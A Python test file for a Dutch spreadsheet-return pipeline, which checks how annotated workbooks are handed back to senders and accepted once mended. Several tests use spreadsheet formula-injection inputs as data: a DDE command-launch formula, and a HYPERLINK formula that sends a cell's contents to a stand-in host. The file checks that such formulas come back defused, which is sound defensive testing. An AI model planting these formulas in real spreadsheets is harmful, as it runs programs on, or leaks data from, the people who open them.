"""What goes back to the sender, read by an independent reader; and mended and delivered again by command line."""

from __future__ import annotations

import re
from collections.abc import Sequence
from datetime import date
from io import BytesIO
from pathlib import Path

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from small_town import HEADERS, Town, csv_text, line

from pipelines.errors import WrongState
from pipelines.finding_sentences.catalogue import SENTENCES
from pipelines.findings import SHOWN, Finding
from pipelines.handing_back import giving
from pipelines.handing_back.first_sheet import FILLS
from pipelines.handing_back.giving import hand_back
from pipelines.reading.cells import FileCells, SheetCells, set_aside
from pipelines.reading.facts import FINDINGS_TITLE
from pipelines.reading.pool import ReadingPool
from schemas.vocabulary import Severity

WRONG = Finding("not_a_number", sheet="Cijfers", row=3, column="waarde", cell="C3", received="tekst")
TWICE = Finding("duplicate_key", sheet="Cijfers", row=4, detail="3")
ASKED = Finding("stock_flow", Severity.QUESTION, "Cijfers", 5, "waarde", "C5", '"12"', "9")
TOLD = Finding("year_to_date_falls", Severity.WARNING, "Cijfers", 3, "waarde", "C3", '"12"', "41")
WHOLE = Finding("incomplete", Severity.WARNING, detail="BER-1 (D-1)")


@pytest.fixture(scope="module")
def pool():
    with ReadingPool(1) as reading:
        yield reading


def sent(path: Path) -> Path:
    """A workbook as a sender may have it: a title, colours, a formula, a date, a comment, a second sheet."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Cijfers"
    for row in (["Titel"], ["naam", "dag", "waarde"], ["a", None, "veel"], [None, "b", 7], ["c", "d", 12]):
        sheet.append(row)
    sheet["B3"], sheet["B3"].number_format = 45000, "dd-mm-yyyy"
    sheet["C6"], sheet["C6"].font = "=SUM(C4:C5)", Font(bold=True, name="Verdana")
    sheet["C3"].fill = PatternFill("solid", fgColor="FF00FF00")
    sheet["C5"].comment = Comment("Van mij zelf", "Afzender")
    sheet["D3"] = "=cmd"
    sheet["D3"].data_type = "s"
    sheet.column_dimensions["A"].width = 33
    sheet.freeze_panes = "A3"
    book.create_sheet("Bijlage")["B2"] = 0.1
    book.save(path)
    return path


def given(pool: ReadingPool, path: Path, findings: Sequence[Finding], **more: object) -> openpyxl.Workbook:
    """What goes back, opened."""
    return openpyxl.load_workbook(BytesIO(content(pool, path, findings, **more)))


def content(pool: ReadingPool, path: Path, findings: Sequence[Finding], **more: object) -> bytes:
    facts = {"file_name": path.name} | more
    return hand_back(path.read_bytes(), pool.read(path), findings, **facts)  # type: ignore[arg-type]


def colour(cell: openpyxl.cell.Cell) -> str | None:
    return cell.fill.fgColor.rgb[-6:] if cell.fill.fill_type == "solid" else None


def table(book: openpyxl.Workbook) -> list[dict[str, object]]:
    rows = list(book["Bevindingen"].iter_rows(values_only=True))
    start = next(index for index, row in enumerate(rows) if row[:2] == ("nr", "soort"))
    return [dict(zip(rows[start], row, strict=True)) for row in rows[start + 1 :] if row[1]]


def text_of(book: openpyxl.Workbook) -> str:
    return "\n".join(str(cell.value) for row in book["Bevindingen"].iter_rows() for cell in row if cell.value)


def test_the_first_sheet_comes_first_and_is_the_only_one_selected(pool: ReadingPool, tmp_path: Path):
    book = given(pool, sent(tmp_path / "a.xlsx"), [WRONG])
    assert book.sheetnames == ["Bevindingen", "Cijfers", "Bijlage"]
    assert book.active.title == "Bevindingen"
    assert [sheet.sheet_view.tabSelected for sheet in book.worksheets] == [True, False, False]


def test_a_faulty_cell_has_a_colour_and_a_comment_of_ours(pool: ReadingPool, tmp_path: Path):
    cell = given(pool, sent(tmp_path / "a.xlsx"), [WRONG])["Cijfers"]["C3"]
    assert colour(cell) == FILLS["error"]
    assert cell.comment.author == "Kwartaalbeeld"
    assert cell.comment.text.endswith("Fout: u vulde tekst in. " + " ".join(SENTENCES["not_a_number"]))


def test_a_row_is_marked_at_its_first_filled_cell(pool: ReadingPool, tmp_path: Path):
    sheet = given(pool, sent(tmp_path / "a.xlsx"), [TWICE])["Cijfers"]
    assert (colour(sheet["A4"]), colour(sheet["B4"])) == (None, FILLS["error"])
    assert "Houd één rij over." in sheet["B4"].comment.text


def test_the_comment_of_the_sender_stays_above_ours(pool: ReadingPool, tmp_path: Path):
    comment = given(pool, sent(tmp_path / "a.xlsx"), [ASKED])["Cijfers"]["C5"].comment
    assert comment.author == "Afzender"
    assert comment.text.startswith("Van mij zelf\n") and "Vraag: " in comment.text


def test_two_findings_in_one_cell_are_one_comment_with_the_colour_of_the_worst(pool: ReadingPool, tmp_path: Path):
    cell = given(pool, sent(tmp_path / "a.xlsx"), [TOLD, WRONG])["Cijfers"]["C3"]
    assert colour(cell) == FILLS["error"]
    assert cell.comment.text.index("Fout: ") < cell.comment.text.index("Waarschuwing: ")


def test_what_the_sender_made_stays_as_it_was(pool: ReadingPool, tmp_path: Path):
    path = sent(tmp_path / "a.xlsx")
    before, after = openpyxl.load_workbook(path), given(pool, path, [WRONG, TWICE, ASKED])
    for name in before.sheetnames:
        for row in before[name].iter_rows():
            for cell in row:
                same = after[name][cell.coordinate]
                facts = ("value", "data_type", "number_format", "font", "border")
                assert all(repr(getattr(same, fact)) == repr(getattr(cell, fact)) for fact in facts), cell.coordinate
    assert after["Cijfers"].column_dimensions["A"].width == 33
    assert after["Cijfers"].freeze_panes == "A3"


def test_a_number_that_is_no_possible_date_comes_back_as_that_number(pool: ReadingPool, tmp_path: Path):
    book = openpyxl.Workbook()
    book.active["A1"], book.active["A1"].number_format = -5, "dd-mm-yyyy"
    book.active["A2"], book.active["A2"].number_format = 45000.123456789, "dd-mm-yyyy"
    book.save(tmp_path / "d.xlsx")
    back = content(pool, tmp_path / "d.xlsx", [Finding("no_rows")])
    (tmp_path / "e.xlsx").write_bytes(back)
    found = [sheet for sheet in pool.read(tmp_path / "e.xlsx").sheets if sheet.name == book.active.title]
    assert found[0].frame.equals(pool.read(tmp_path / "d.xlsx").sheets[0].frame)


def test_the_list_has_errors_first_and_leads_to_the_cells(pool: ReadingPool, tmp_path: Path):
    book = given(pool, sent(tmp_path / "a.xlsx"), [WHOLE, TOLD, ASKED, TWICE, WRONG])
    rows = table(book)
    assert [row["soort"] for row in rows] == ["fout", "fout", "vraag", "waarschuwing", "waarschuwing"]
    assert [row["nr"] for row in rows] == [1, 2, 3, 4, 5]
    assert rows[0] | {"nr": 0} == {
        "nr": 0, "soort": "fout", "blad": "Cijfers", "rij": 3, "kolom": "waarde", "cel": "C3", "wat u invulde": "tekst",
        "wat we verwachten": SENTENCES["not_a_number"][0], "hoe u het herstelt": SENTENCES["not_a_number"][1],
    }  # fmt: skip
    links = {cell.value: cell.hyperlink.location for row in book["Bevindingen"] for cell in row if cell.hyperlink}
    assert links == {"C3": "'Cijfers'!C3", "B4": "'Cijfers'!B4", "C5": "'Cijfers'!C5"}


def test_somebody_without_an_account_reads_what_to_do_by_when_and_for_whom(pool: ReadingPool, tmp_path: Path):
    book = given(pool, sent(tmp_path / "mijn cijfers.xlsx"), [WRONG, ASKED, WHOLE], municipality="Gemeente Kleindorp",
                 reply_by=date(2026, 1, 28))  # fmt: skip
    told = text_of(book)
    assert told.startswith(FINDINGS_TITLE)
    for words in (
        "mijn cijfers.xlsx", "voor Gemeente Kleindorp", "uw eigen bestand", "1 fout, 1 vraag en 1 waarschuwing.",
        "uiterlijk op 28 januari 2026 terug aan uw contactpersoon bij de gemeente", "Herstel elke fout",
    ):  # fmt: skip
        assert words in told


def test_of_more_than_a_thousand_findings_the_rest_is_counted(pool: ReadingPool, tmp_path: Path):
    many = [
        Finding("negative", sheet="Cijfers", row=row, column="waarde", cell=f"C{row}") for row in range(3, SHOWN + 10)
    ]
    book = given(pool, sent(tmp_path / "a.xlsx"), many)
    assert len(table(book)) == SHOWN
    assert f"En nog {len(many) - SHOWN} bevindingen." in text_of(book)
    assert f"{len(many)} fouten." in text_of(book)


def test_a_second_round_removes_the_marks_of_the_first(pool: ReadingPool, tmp_path: Path):
    path = sent(tmp_path / "a.xlsx")
    once = tmp_path / "b.xlsx"
    once.write_bytes(content(pool, path, [WRONG, TWICE, ASKED]))
    book = given(pool, once, [TOLD])
    sheet = book["Cijfers"]
    assert book.sheetnames == ["Bevindingen", "Cijfers", "Bijlage"]
    assert (colour(sheet["B4"]), sheet["B4"].comment, colour(sheet["C5"])) == (None, None, None)
    assert sheet["C5"].comment.text == "Van mij zelf"
    assert colour(sheet["C3"]) == FILLS["warning"]
    third = tmp_path / "c.xlsx"
    third.write_bytes(content(pool, once, [Finding("no_rows")]))
    assert colour(openpyxl.load_workbook(third)["Cijfers"]["C3"]) == "00FF00"  # the green of the sender
    assert len(table(openpyxl.load_workbook(third))) == 1


def test_a_sheet_that_the_sender_called_bevindingen_is_not_ours(pool: ReadingPool, tmp_path: Path):
    book = openpyxl.Workbook()
    book.active.title = "Bevindingen"
    book.active["A1"] = "van de accountant"
    book.save(tmp_path / "a.xlsx")
    found = given(pool, tmp_path / "a.xlsx", [Finding("no_rows")])
    assert len(found.sheetnames) == 2 and found["Bevindingen"]["A1"].value == "van de accountant"
    assert found.worksheets[0]["A1"].value == FINDINGS_TITLE


def test_a_merged_cell_is_marked_at_its_corner(pool: ReadingPool, tmp_path: Path):
    path = sent(tmp_path / "a.xlsx")
    book = openpyxl.load_workbook(path)
    book["Cijfers"].merge_cells("A5:B5")
    book.save(path)
    finding = Finding("required", sheet="Cijfers", row=5, column="dag", cell="B5")
    sheet = given(pool, path, [finding])["Cijfers"]
    assert colour(sheet["A5"]) == FILLS["error"] and "Vul de cel in." in sheet["A5"].comment.text


def test_text_that_starts_like_a_formula_stays_text_in_the_list_and_in_a_copy(pool: ReadingPool, tmp_path: Path):
    (tmp_path / "a.csv").write_text("naam;waarde\n=1+1;-5\n@x;+31\n0012;1.234\n", encoding="utf-8")
    finding = Finding("unknown_word", row=2, column="naam", cell="A2", received="=HYPERLINK(1)", detail="a, b")
    book = given(pool, tmp_path / "a.csv", [finding])
    cells = [cell for sheet in book.worksheets for row in sheet for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type in ("f", "e")]
    sheet = book.worksheets[1]
    assert [[cell.value for cell in row] for row in sheet] == [
        ["naam", "waarde"], ["=1+1", "-5"], ["@x", "+31"], ["0012", "1.234"],
    ]  # fmt: skip
    assert {cell.number_format for row in sheet for cell in row} == {"@"}
    assert colour(sheet["A2"]) == FILLS["error"]
    assert "kopie van uw bestand" in text_of(book)
    assert table(book)[0]["wat u invulde"] == "=HYPERLINK(1)"


def test_a_copy_keeps_every_cell_at_its_place_under_names_that_excel_accepts(tmp_path: Path):
    sheets = (
        SheetCells.of("Een/twee: drie", [["", ""], ["", "x"]]),
        SheetCells.of("Een twee  drie", [["y"]]),
        SheetCells.of("n" * 40, [["z"]]),
    )
    finding = Finding("required", sheet="Een/twee: drie", row=2, column="k", cell="B2")
    book = openpyxl.load_workbook(BytesIO(hand_back(b"", FileCells("ods", sheets), [finding], file_name="a.ods")))
    names = book.sheetnames[1:]
    assert len(set(names)) == 3 and all(len(name) <= 31 and not re.search(r"[/:]", name) for name in names)
    assert book.worksheets[1]["B2"].value == "x" and colour(book.worksheets[1]["B2"]) == FILLS["error"]
    assert table(book)[0]["blad"] == names[0]


def test_a_workbook_that_cannot_be_opened_again_comes_back_as_a_copy(pool: ReadingPool, tmp_path: Path):
    cells = pool.read(sent(tmp_path / "a.xlsx"))
    book = openpyxl.load_workbook(BytesIO(hand_back(b"geen zip", cells, [WRONG], file_name="a.xlsx")))
    assert "kopie van uw bestand" in text_of(book)
    assert colour(book["Cijfers"]["C3"]) == FILLS["error"]


@pytest.mark.parametrize("cells", [None, FileCells("csv", (SheetCells.of("", [["x"] * 10] * 20),))])
def test_of_a_file_that_was_not_read_or_is_too_large_only_the_list_goes_back(
    cells: FileCells | None, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr(giving, "LARGEST", 10 * 20 - 1)
    book = openpyxl.load_workbook(BytesIO(hand_back(b"", cells, [Finding("password")], file_name="a.xlsx")))
    assert book.sheetnames == ["Bevindingen"]
    assert table(book)[0]["wat we verwachten"] == SENTENCES["password"][0]


@pytest.mark.parametrize("code", sorted(giving.PERSONAL & set(SENTENCES)))
def test_a_destroyed_file_is_never_handed_back(code: str):
    with pytest.raises(WrongState):
        hand_back(b"x", FileCells("csv", ()), [Finding(code)], file_name="a.csv")


def test_our_own_sheet_is_screened_and_never_read_as_data(pool: ReadingPool, tmp_path: Path):
    (tmp_path / "b.xlsx").write_bytes(content(pool, sent(tmp_path / "a.xlsx"), [WRONG]))
    cells = pool.read(tmp_path / "b.xlsx")
    assert [sheet.name for sheet in cells.sheets] == ["Cijfers", "Bijlage"]
    assert [sheet.name for sheet in cells.unseen] == ["Bevindingen"] and cells.hidden == ()
    theirs = FileCells("xlsx", (SheetCells.of("Bevindingen", [["andere titel"]]),))
    assert set_aside(theirs) == theirs


def monitor(path: Path, value: object) -> Path:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Kwartaalmonitor"
    sheet.append(HEADERS)
    sheet.append(["eik", "D-4", "2025-K4", "BER-1", value, None, None, "aantal", None, None, None])
    book.save(path)
    return path


def test_a_workbook_that_came_back_and_was_mended_is_accepted(pool: ReadingPool, tmp_path: Path):
    town = Town(tmp_path / "dorp")
    path = monitor(tmp_path / "eik.xlsx", "veel")
    answer = town.run("deliver", path, "--json")
    assert answer.code == 3
    (found,) = [item for item in answer.json[0]["findings"] if item["code"] == "not_a_number"]
    finding = Finding("not_a_number", sheet=found["sheet"], row=found["row"], column=found["column"],
                      cell=found["cell"], received=found["received"])  # fmt: skip
    back = tmp_path / "terug.xlsx"
    back.write_bytes(content(pool, path, [finding]))
    book = openpyxl.load_workbook(back)
    book["Kwartaalmonitor"][found["cell"]] = 12
    book.save(back)
    answer = town.run("deliver", back, "--accept", "--json")
    assert answer.code == 0, answer.out
    assert (answer.json[0]["rows_read"], answer.json[0]["state"]) == (1, "accepted")


def test_a_copy_of_a_csv_that_was_mended_is_accepted(pool: ReadingPool, tmp_path: Path):
    town = Town(tmp_path / "dorp")
    path = town.write("eik.csv", csv_text(line("eik", "D-4", "2025-K4", "BER-1", "veel", None, None, "aantal", None, None, None),
                                          line("eik", "D-4", "2025-10", "TER-1", "7,5", None, 12, "dagen", None, None, None)))  # fmt: skip
    finding = Finding("not_a_number", row=2, column="waarde", cell="E2", received="tekst")
    back = tmp_path / "terug.xlsx"
    back.write_bytes(content(pool, path, [finding]))
    book = openpyxl.load_workbook(back)
    assert colour(book.worksheets[1]["E2"]) == FILLS["error"]
    book.worksheets[1]["E2"] = "12"
    book.save(back)
    answer = town.run("deliver", back, "--accept", "--json")
    assert answer.code == 0, answer.out
    assert answer.json[0]["rows_read"] == 2


def test_a_formula_of_the_sender_that_reaches_out_goes_back_as_text(pool: ReadingPool, tmp_path: Path):
    path = sent(tmp_path / "lijst.xlsx")
    book = openpyxl.load_workbook(path)
    calls = ["=cmd|'/c calc'!A0", '=HYPERLINK("http://x.example/?"&A3,"klik")', "=1+1", '=IF(A3="a|b",1,2)']
    for at, text in enumerate(calls, start=3):
        book["Cijfers"].cell(at, 6).value = text
    book.save(path)
    back = given(pool, path, [WRONG])["Cijfers"]
    assert [(back.cell(at, 6).value, back.cell(at, 6).data_type) for at in range(3, 7)] == list(
        zip(calls, ["s", "s", "f", "f"], strict=True)
    )
